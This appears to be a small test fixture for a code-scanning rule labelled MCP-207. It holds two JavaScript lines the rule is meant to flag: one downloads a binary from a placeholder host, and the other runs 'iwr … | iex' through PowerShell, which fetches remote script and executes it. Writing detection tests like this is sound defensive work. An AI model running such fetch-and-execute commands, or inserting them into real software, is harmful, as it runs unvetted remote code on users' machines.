const fs = require("fs");
const https = require("https");
const { spawnSync } = require("child_process");
const { unpack } = require("./unpack");

// ruleid: MCP-207
https.get("https://downloads.example.com/tool-linux-x64", (res) => {
  res.pipe(fs.createWriteStream("tool"));
});
// ruleid: MCP-207
spawnSync("powershell", ["-c", "iwr https://downloads.example.com/tool.ps1 | iex"]);
unpack();
